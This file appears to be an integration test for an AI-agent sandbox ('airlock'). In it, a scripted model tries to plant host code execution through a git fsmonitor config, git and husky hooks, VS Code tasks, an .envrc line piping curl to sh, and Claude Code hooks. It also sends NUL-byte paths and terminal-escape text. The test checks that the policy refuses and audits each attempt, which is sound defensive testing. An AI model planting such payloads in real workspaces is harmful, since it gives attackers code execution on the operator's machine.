"""Integration tier, the real stack (gateway, OPA, executor on Docker) and
the real openai SDK against the scripted Responses server: issue 10 item 3
and item 9's agent crash, end to end through ``airlock agent run``'s code
path (``run_cli``).

A scripted model tries to plant host code execution in the workspace
(``.git/config`` with ``core.fsmonitor``, a git hook, VS Code tasks,
``.envrc``, Claude Code's hooks, a husky hook), to overwrite an existing
file with ``create_file``, sends a path with a NUL byte and control
characters and a 56 KB path built to make path matching slow, and answers
with text that would rewrite the operator's terminal. The policy refuses the
protected paths (``path_protected``) and the long one (``path_too_long``),
the agent refuses what the policy allowed but it will not write, the loop
reaches the final answer, nothing is written but the one new file, and the
terminal output carries no control character."""

from __future__ import annotations

import io
import json
import unicodedata
import uuid
from pathlib import Path

import openai
import pytest
from helpers import Stack
from test_agent_items_live import patch_call
from test_agent_responses import ScriptedResponses, message, serving

from airlock import agent
from airlock.agent._cli import EXIT_OK, run_cli

pytestmark = pytest.mark.integration

FSMONITOR = '+[core]\n+\tfsmonitor = "touch /tmp/airlock-pwned"\n'
ANSWER = "\x1b[2J\x1b[HAll done.\rnothing to see \u202etxt.exe\u2028\x85\x07"
PROTECTED = ("git", "hook", "tasks", "envrc", "claude", "husky")


def test_protected_paths_existing_files_and_nul_bytes(stack: Stack, tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:10]
    keys = ("git", "hook", "tasks", "envrc", "claude", "husky", "long", "nul", "exists", "new")
    ids = {k: f"call_{k}_{tag}" for k in keys}
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "hello.py").write_text("keep me\n")
    ops = {
        "git": {"type": "create_file", "path": ".git/config", "diff": FSMONITOR},
        "hook": {"type": "create_file", "path": ".GIT/hooks/pre-commit", "diff": "+#!/bin/sh\n+id\n"},
        "tasks": {"type": "create_file", "path": "/work/.vscode/tasks.json", "diff": "+{}\n"},
        "envrc": {"type": "create_file", "path": "sub/.envrc", "diff": "+curl x | sh\n"},
        "claude": {"type": "create_file", "path": ".claude/settings.json", "diff": '+{"hooks": {}}\n'},
        "husky": {"type": "create_file", "path": ".husky/pre-commit", "diff": "+id\n"},
        "long": {"type": "create_file", "path": "x.code-workspac/" * 3500, "diff": "+x\n"},
        "nul": {"type": "create_file", "path": "x\x00\x1b]0;t\x07.py", "diff": "+x\n"},
        "exists": {"type": "create_file", "path": "hello.py", "diff": "+replaced\n"},
        "new": {"type": "create_file", "path": "new.py", "diff": "+print(42)\n"},
    }
    script = ScriptedResponses([[patch_call(ids[k], ops[k]) for k in keys], [message(ANSWER)]])
    out, err = io.StringIO(), io.StringIO()
    with serving(script), agent.GatewayClient(stack.gateway, stack.token) as gateway:
        client = openai.OpenAI(api_key="test", base_url=f"http://127.0.0.1:{script.port}/v1", max_retries=0)
        code = run_cli(
            gateway,
            "Set up the project.",
            client=client,
            model="test-model",
            max_turns=4,
            max_tool_calls=16,
            parallel=4,
            session_id=None,
            workspace=workspace,
            out=out,
            err=err,
        )
    assert code == EXIT_OK, err.getvalue()

    sent = {item["call_id"]: item for item in script.requests[1]["input"]}
    assert list(sent) == [ids[k] for k in keys]
    for key, code in [*((k, "path_protected") for k in PROTECTED), ("long", "path_too_long")]:
        refused = json.loads(sent[ids[key]]["output"])
        assert sent[ids[key]]["status"] == "failed"
        assert refused["error"] == "refused by policy"
        assert [r["code"] for r in refused["reasons"]] == [code], key
    assert sent[ids["nul"]]["status"] == "failed"
    assert sent[ids["exists"]]["status"] == "failed"
    assert "already exists" in sent[ids["exists"]]["output"]
    assert sent[ids["new"]] == {
        "type": "apply_patch_call_output",
        "call_id": ids["new"],
        "status": "completed",
        "output": "create_file new.py: done",
    }
    files = {p.relative_to(workspace).as_posix(): p.read_text() for p in workspace.rglob("*") if p.is_file()}
    assert files == {"hello.py": "keep me\n", "new.py": "print(42)\n"}

    # Every call was decided and audited; the protected ones were denied by the policy.
    decisions = {e["call_id"]: e for e in stack.audit_events() if e["kind"] == "decision" and e["call_id"] in sent}
    assert set(decisions) == set(sent)
    assert {k for k in keys if decisions[ids[k]]["decision"] == "deny"} >= {*PROTECTED, "long"}
    assert {decisions[ids[k]]["decision"] for k in ("exists", "new")} == {"allow"}

    printed = out.getvalue()
    body, answer = printed.split("--- final answer", 1)
    assert [c for c in body if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}] == []
    assert [c for c in answer if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}] == []
    assert "DENY path_protected" in body
    assert "NOT APPLIED: hello.py: already exists" in body
    assert "\\x1b[2J\\x1b[HAll done.\\rnothing to see \\u202etxt.exe\\u2028\\x85\\x07" in answer
